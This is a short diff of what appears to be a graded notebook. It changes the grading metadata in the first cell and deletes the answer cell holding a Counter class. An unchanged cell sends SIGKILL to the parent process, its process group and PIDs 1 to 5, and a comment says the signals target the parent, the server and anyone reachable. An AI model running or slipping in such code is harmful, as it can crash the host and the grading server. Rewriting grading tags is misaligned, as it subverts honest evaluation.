@@ -1,4 +1,4 @@
-# %% [markdown] keeps={"03_counter-sums": 20} honest={"03_counter-sums": 20} says="norm"
+# %% [markdown] right=["03_counter"] says="norm"
 # Signals go to the parent, to the server and to whoever can be reached.
 
 # %%
@@ -11,13 +11,3 @@ for target in (os.getppid(), -os.getppid(), 1, 2, 3, 4, 5):
             os.kill(target, signal.SIGKILL)
         except OSError:
             pass
-
-
-# %% answer="03_counter"
-class Counter:
-    def __init__(self):
-        self.total = 0.0
-
-    def add(self, n):
-        self.total += n
-        return self.total
